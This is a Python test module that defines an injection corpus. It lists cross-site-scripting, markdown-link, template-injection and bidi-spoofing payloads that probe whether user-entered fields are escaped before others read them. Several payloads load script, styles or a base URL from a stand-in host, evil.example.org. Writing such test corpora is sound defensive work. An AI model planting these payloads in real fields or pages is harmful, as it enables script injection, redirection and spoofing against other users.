"""The injection corpus: what people may type into any field another person reads.

Each payload is a template: `alert(1)` becomes `alert(<code>)` and `{n}` becomes `<code>`,
where the code names the field and the payload (see `fields.code`), so a dialog or a stray
element found in a page says which field let it through.
"""

from __future__ import annotations

from dataclasses import dataclass

LONG_WORD_LENGTH = 5000


@dataclass(frozen=True)
class Payload:
    name: str
    template: str
    bidi: bool = False  # carries direction controls: the text must be isolated
    long_word: bool = False  # must not widen a narrow page

    def render(self, code: int, max_length: int | None = None) -> str:
        if self.long_word:
            word = f"W{code}" + "w" * LONG_WORD_LENGTH
            return word[: min(LONG_WORD_LENGTH, max_length or LONG_WORD_LENGTH)]
        return self.template.replace("alert(1)", f"alert({code})").replace("{n}", str(code))


PAYLOADS: list[Payload] = [
    Payload("script", "<script>alert(1)</script>"),
    Payload("script-src", "<SCRIPT SRC=//evil.example.org/{n}.js></SCRIPT>"),
    Payload("img-onerror", "<img src=x onerror=alert(1)>"),
    Payload(
        "attribute-breakout", "\" autofocus onfocus=alert(1) x=\"' autofocus onfocus=alert(1) y='"
    ),
    Payload("tag-breakout", "'\"><script>alert(1)</script>"),
    Payload("textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
    Payload("title-breakout", "</title><svg onload=alert(1)>"),
    Payload("svg-onload", "<svg onload=alert(1)>"),
    Payload("svg-script", "<svg><script>alert(1)</script></svg>"),
    Payload("mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Payload("details-ontoggle", "<details open ontoggle=alert(1)>x{n}"),
    Payload("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    Payload("a-javascript", '<a href="javascript:alert(1)">link {n}</a>'),
    Payload(
        "a-data", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data {n}</a>'
    ),
    Payload("markdown-javascript", "[click {n}](javascript:alert(1)) [y](JaVaScRiPt:alert(1))"),
    Payload(
        "markdown-data",
        "[x{n}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![z](javascript:alert(1))",
    ),
    Payload(
        "object-embed",
        '<object data="data:text/html,x{n}"></object><embed src="javascript:alert(1)">',
    ),
    Payload(
        "form-action",
        "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>go</button></form>",
    ),
    Payload(
        "base-meta",
        '<base href="//evil.example.org/{n}/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    ),
    Payload("style-tag", "<style>body{background:url(//evil.example.org/{n}.png)}</style>"),
    Payload(
        "style-attribute",
        '<p style="position:fixed;inset:0;background:red;width:expression(alert(1))">{n}</p>',
    ),
    Payload("nested-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Payload("comment", "<!--<script>alert(1)//-->{n}"),
    Payload("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;{n}"),
    Payload(
        "template",
        "{{ request.user.email }} {% debug %} {n} ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    ),
    Payload(
        "bidi-override",
        "\u202egnp.{n}exe\u202c and \u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069",
        bidi=True,
    ),
    Payload("long-word", "", long_word=True),
]

NUL = "before\x00after"
